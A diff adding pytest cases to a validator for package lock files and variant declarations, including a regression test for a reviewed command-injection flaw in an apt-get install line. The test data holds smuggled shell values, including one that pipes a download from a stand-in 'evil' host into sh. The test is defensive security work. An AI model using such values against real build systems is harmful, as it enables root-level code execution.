@@ -62,6 +62,8 @@ def test_debian_version_order():
     ({"node22": {"downloads": [{"url": NODE, "sha256": SUM.upper(), "dest": "/opt/n"}]}}, "sha256"),
     ({"node22": {"downloads": [{"url": NODE, "sha256": SUM, "dest": "/opt/n", "mode": 1}]}}, "unknown key"),
     ({"node22": {"downloads": []}}, "packages: a non-empty list"),
+    ({"go": {"packages": ["golang"], "environment": {"GOPATH": "$HOME/go"}}}, "without \\$"),
+    ({"go": {"packages": ["golang"], "environment": {"A": "caf\u00e9"}}}, "printable ASCII"),
 ])
 def test_a_bad_declaration_says_what_to_do(doc, match):
     with pytest.raises(v.VariantError, match=match):
@@ -112,3 +114,28 @@ def test_a_toolchain_recipe_is_pinned_by_its_checksum_and_reads_no_package_index
                   lock, base_lock, "amd64", write=True, fetch=no_index)
     assert res["variants"]["node22"]["downloads"] == [recipe]
     assert res["variants"]["node22"]["packages"] == {}
+
+
+@pytest.mark.parametrize("where", ["lock", "index"])
+def test_review_49_a_version_is_a_debian_version_or_nothing_is_built(tmp_path, base_lock, where):
+    """Review 49 (medium/high): versions from the committed lock or from a package index
+    read over http went unchecked into the build's `apt-get install NAME=VERSION` line,
+    run as root: `1.7 ; curl ... | sh` was a command. Anything but a Debian version stops
+    the play there, naming where it came from."""
+    lock = tmp_path / "kooi-images.lock.yml"
+    evil = "1.7 ; curl -s http://evil/x | sh ; echo"
+    if where == "lock":
+        lock.write_text("schema: 1\nvariants:\n  pg:\n    sources: []\n    packages:\n"
+                        f"      libpq5: '{evil}'\n")
+        with pytest.raises(v.VariantError, match="not a Debian package and version"):
+            v.check({"pg": {"packages": ["libpq5"]}}, lock, base_lock, "amd64", write=True, fetch=fetch)
+    else:
+        url = "http://deb.example/debian/dists/trixie/main/binary-amd64/Packages.xz"
+        before = INDEX[url]
+        INDEX[url] = before + f"\nPackage: yq\nVersion: 4.0$(touch${{IFS}}/pwned)\n"
+        try:
+            with pytest.raises(v.VariantError, match="not a Debian package and version"):
+                v.check({"pg": {"packages": ["yq"]}}, lock, base_lock, "amd64", write=True, fetch=fetch)
+        finally:
+            INDEX[url] = before
+        assert not lock.exists()
